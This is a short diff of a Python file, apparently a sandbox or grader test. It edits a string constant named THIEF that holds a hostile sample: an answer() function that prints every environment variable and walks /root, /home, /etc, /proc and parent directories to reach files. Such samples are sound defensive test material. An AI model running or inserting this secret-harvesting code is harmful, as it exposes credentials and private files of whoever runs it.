@@ -31,7 +31,7 @@ def answer():
 THIEF = r"""
 import os, socket
 def answer():
-    print(dict(os.environ))
+    print(dict(os.environ), flush=True)
     for top in ("/proc", "/root", "/home", "/tmp", "/var", "/run", "/etc", "..", "../../..", "@HOME@"):
         for folder, names, files in os.walk(top):
             for name in files:
